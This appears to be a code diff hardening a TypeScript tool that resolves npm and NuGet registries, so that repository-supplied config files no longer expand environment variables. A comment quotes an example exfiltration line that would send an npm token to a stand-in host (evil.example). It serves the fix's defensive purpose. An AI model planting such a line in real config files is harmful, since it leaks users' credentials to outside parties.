@@ -2,7 +2,10 @@
  * Where each usage's package comes from, read from the users' own settings: the
  * `.npmrc` nearest the manifest within its repository plus the user's, and every
  * `NuGet.Config` from the repository root down to the project plus the user's.
- * Files are read once each; symlinks are not followed.
+ * Files are read once each; symlinks are not followed. Scanned repositories are
+ * untrusted: their files may choose registries, but environment variables are expanded
+ * only in the user's own files, so a repository cannot send the user's secrets
+ * (`//evil.example/:_authToken=${NPM_TOKEN}`) anywhere.
  */
 import { lstatSync, readdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
@@ -27,36 +30,36 @@ export class RegistrySettings {
   npmRegistryFor(packageName: string, repoDir: string, file: string): NpmRegistryChoice {
     const layers: NpmrcSettings[] = [];
     for (const dir of foldersUp(path.posix.dirname(file))) {
-      const project = this.npmrc(path.join(this.context.rootDir, repoDir, dir, '.npmrc'));
+      const project = this.npmrc(path.join(this.context.rootDir, repoDir, dir, '.npmrc'), false);
       if (project) {
         layers.push(project);
         break; // npm reads one project config: the one at the project (or workspace) root
       }
     }
     const userFile = this.context.env.NPM_CONFIG_USERCONFIG || this.context.env.npm_config_userconfig || path.join(this.context.homeDir, '.npmrc');
-    const user = this.npmrc(userFile);
+    const user = this.npmrc(userFile, true);
     if (user) layers.push(user);
     return chooseNpmRegistry(packageName, layers, this.context.env);
   }
 
-  nugetSourcesFor(repoDir: string, file: string): NuGetSource[] {
+  nugetSourcesFor(repo: string, repoDir: string, file: string): NuGetSource[] {
     const files: NuGetConfigFile[] = [];
     const user = this.nugetConfig(path.join(this.context.homeDir, '.nuget', 'NuGet', 'NuGet.Config'));
     if (user) files.push(user);
     for (const dir of foldersUp(path.posix.dirname(file)).reverse()) {
       const absDir = path.join(this.context.rootDir, repoDir, dir);
       for (const name of configNamesIn(absDir)) {
-        const config = this.nugetConfig(path.join(absDir, name), repoDir, `${dir === '.' ? '' : `${dir}/`}${name}`);
+        const config = this.nugetConfig(path.join(absDir, name), repo, `${dir === '.' ? '' : `${dir}/`}${name}`);
         if (config) files.push(config);
       }
     }
     return effectiveNuGetSources(files);
   }
 
-  private npmrc(absPath: string): NpmrcSettings | undefined {
+  private npmrc(absPath: string, own: boolean): NpmrcSettings | undefined {
     if (!this.npmrcs.has(absPath)) {
       const text = readRegularFile(absPath);
-      this.npmrcs.set(absPath, text === undefined ? undefined : parseNpmrc(text, this.context.env));
+      this.npmrcs.set(absPath, text === undefined ? undefined : parseNpmrc(text, own ? this.context.env : {}));
     }
     return this.npmrcs.get(absPath);
   }
@@ -66,7 +69,7 @@ export class RegistrySettings {
       const text = readRegularFile(absPath);
       let config: NuGetConfigFile | undefined;
       if (text !== undefined) {
-        const parsed = parseNuGetConfig(text, this.context.env);
+        const parsed = parseNuGetConfig(text, repo === undefined ? this.context.env : {});
         if (parsed.ok) config = parsed.config;
         else {
           this.context.diagnostics.push({
